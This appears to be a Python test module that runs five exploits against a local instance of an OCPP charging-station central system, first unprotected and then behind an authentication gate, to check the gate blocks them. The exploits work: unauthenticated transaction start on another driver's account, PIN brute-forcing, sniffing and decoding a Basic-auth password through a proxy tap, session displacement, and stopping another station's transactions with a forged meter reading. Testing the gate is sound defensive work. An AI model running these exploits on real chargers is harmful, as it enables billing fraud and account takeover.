"""The faults of the advisories (CWE-306, 307, 613, 522, 284) on a CSMS that others wrote: `ocpp-csms` from PyPI,
with no authentication but for one station, whose PIN may be guessed at for ever. Each exploit is tried at it
bare and then, on the same running instance, through the gate."""

import asyncio
import base64
import contextlib
import json
from collections.abc import Callable
from dataclasses import dataclass, replace

from ocpp_csms import CentralSystem
from websockets.exceptions import ConnectionClosed, InvalidHandshake

from ends import Door, Visits
from gate import BASIC, Gate
from mobilityhouse import open_socket

ROUTE = "faults"
OPEN, PIN, LIVE, WIRE = "FAULT-OPEN", "FAULT-PIN", "FAULT-LIVE", "FAULT-WIRE"
PASSWORDS = {PIN: "0042", WIRE: "5c1e70a94bd8f3262d17"}
GUESSES, GUESSING_SECONDS_MAX = 60, 6
# An address of its own: what fails from there is not held against the other scenes.
ATTACKER = ("127.0.66.1", 0)
ORDER_SECONDS_MAX = 5
METER_WH = 999_999
NOW = "2026-05-04T12:00:00Z"


class Csms:
    """The central system, in the state that the advisories describe."""

    name = "ocpp-csms"

    def __init__(self):
        self.visits = Visits()

    @contextlib.asynccontextmanager
    async def running(self):
        async def is_welcome(identity: str, password: str | None) -> bool:
            return identity not in PASSWORDS or PASSWORDS[identity] == password

        self.ended = []
        async with CentralSystem(host="127.0.0.1", port=0, ping_interval=None, authenticate=is_welcome) as system:
            system.add_listener(lambda event: self.ended.append(getattr(event, "transaction", None)))
            self.system, self.url = system, f"ws://localhost:{system.port}/ocpp"
            yield self

    async def remote_start(self, identity: str) -> str:
        """Somebody presses "start" in the app."""
        return await self.system.charge_points[identity].async_remote_start_transaction("ANNA-0001", 1)


@dataclass(frozen=True)
class Exploit:
    """What an attacker tries; it returns what it got, or nothing."""

    name: str
    run: Callable


class Line:
    """A station's line in its simplest form: a call, its answer, and whatever is asked in between."""

    def __init__(self, socket):
        self.socket, self.asked, self._count = socket, [], 0

    async def call(self, action: str, payload: dict):
        self._count += 1
        await self.socket.send(json.dumps([2, f"x{self._count}", action, payload]))
        while True:
            message = json.loads(await self.socket.recv())
            if message[0] == 2:
                await self._do_as_told(message)
            elif message[1] == f"x{self._count}":
                return message[2] if message[0] == 3 else None

    async def order(self) -> str | None:
        """The next order that comes, if one comes in time."""
        with contextlib.suppress(TimeoutError, ConnectionClosed):
            async with asyncio.timeout(ORDER_SECONDS_MAX):
                message = json.loads(await self.socket.recv())
                await self._do_as_told(message)
                return message[2]
        return None

    async def _do_as_told(self, message: list):
        self.asked.append(message[2])
        await self.socket.send(json.dumps([3, message[1], {"status": "Accepted"}]))


@contextlib.asynccontextmanager
async def line(door: Door, identity: str, password: str | None = None, **more):
    async with open_socket(replace(door, password=password), identity, "ocpp1.6", **more) as socket:
        yield Line(socket)


def attack(door: Door, identity: str, password: str | None = None):
    return line(door, identity, password, local_addr=ATTACKER)


async def _begins(on: Line, tag: str) -> int:
    await on.call("BootNotification", {"chargePointVendor": "V", "chargePointModel": "M"})
    start = {"connectorId": 1, "idTag": tag, "meterStart": 0, "timestamp": NOW}
    return (await on.call("StartTransaction", start))["transactionId"]


async def no_credential(door: Door, csms: Csms, honest: str | None):
    async with attack(door, OPEN) as attacker:
        return f"transaction {await _begins(attacker, 'ANNA-0001')} on Anna's account"


async def endless_guesses(door: Door, csms: Csms, honest: str | None):
    async with asyncio.timeout(GUESSING_SECONDS_MAX):
        for guess in range(GUESSES):
            with contextlib.suppress(InvalidHandshake):
                async with attack(door, PIN, f"{guess:04}"):
                    return f"the PIN {guess:04}"


async def displaced_station(door: Door, csms: Csms, honest: str | None):
    """The attacker has stolen what the station shows, if it shows anything; the station is connected."""
    async with attack(door, LIVE, honest) as attacker:
        pressed = asyncio.create_task(csms.remote_start(LIVE))
        order = await attacker.order()
        pressed.cancel()
        return order and f"the order {order}, which was {LIVE}'s"


async def password_on_the_wire(door: Door, csms: Csms, honest: str | None):
    heard = bytearray()
    async with _tapped(door, heard) as tapped, line(tapped, WIRE, PASSWORDS[WIRE]) as station:
        await station.call("Heartbeat", {})
    assert heard, "nothing went by"
    shown = [row.split()[-1] for row in bytes(heard).split(b"\r\n") if row.lower().startswith(b"authorization:")]
    if shown:
        password = base64.b64decode(shown[0]).decode().partition(":")[2]
        async with attack(door, WIRE, password):
            return f"the password of {WIRE}"


async def foreign_transaction(door: Door, csms: Csms, honest: str | None):
    """Whoever says that it is the station ends the station's transactions, at a reading of its own."""
    running = list(csms.system.charge_points[LIVE]._transactions)  # noqa: SLF001  (an attacker counts them through)
    async with attack(door, LIVE) as attacker:
        for number in running:
            await attacker.call("StopTransaction", {"transactionId": number, "meterStop": METER_WH, "timestamp": NOW})
    if any(one and one.meter_stop == METER_WH for one in csms.ended):
        return f"{LIVE}'s driver pays for {METER_WH} Wh"


EXPLOITS = [
    Exploit("CWE-306 no credential", no_credential),
    Exploit("CWE-307 endless guesses", endless_guesses),
    Exploit("CWE-522 password on the wire", password_on_the_wire),
    Exploit("CWE-613 displaced station", displaced_station),
    Exploit("CWE-284 foreign transaction", foreign_transaction),
]


def register(gate: Gate):
    for identity in (OPEN, LIVE):
        gate.register(identity, BASIC)
    for identity, password in PASSWORDS.items():
        gate.register(identity, BASIC, password)


async def objections(door: Door, csms: Csms, exploit: Exploit, honest: str | None) -> list[str]:
    """Empty when the exploit works bare, and gives nothing where there is a gate and the station notices nothing."""
    is_bare = honest is None
    async with line(door, LIVE, honest) as station:
        await _begins(station, "BERT-0002")
        try:
            got = await exploit.run(door, csms, honest)
        except (InvalidHandshake, TimeoutError, ConnectionClosed):
            got = None
        if is_bare:
            return [] if got else ["it does not work at the CSMS alone"]
        heard = await station.call("Heartbeat", {})
        pressed = asyncio.create_task(csms.remote_start(LIVE))
        order = await station.order()
        pressed.cancel()
    objections = [f"it got {got}"] if got else []
    if not heard or order != "RemoteStartTransaction":
        objections.append(f"the station noticed: {heard}, {order}")
    return objections


@contextlib.asynccontextmanager
async def _tapped(door: Door, heard: bytearray):
    """The same door, by way of somebody who writes down what the station says."""
    _, _, place = door.url.partition("://")
    port = int(place.partition("/")[0].rpartition(":")[2])

    async def pump(reader, writer, notes=None):
        with contextlib.suppress(ConnectionError):
            while data := await reader.read(65536):
                if notes is not None:
                    notes.extend(data)
                writer.write(data)
                await writer.drain()
        writer.close()

    async def meet(reader, writer):
        onward_reader, onward_writer = await asyncio.open_connection("127.0.0.1", port)
        await asyncio.gather(pump(reader, onward_writer, heard), pump(onward_reader, writer))

    server = await asyncio.start_server(meet, "127.0.0.1", 0)
    async with server:
        tap = server.sockets[0].getsockname()[1]
        yield replace(door, url=door.url.replace(f":{port}", f":{tap}"))
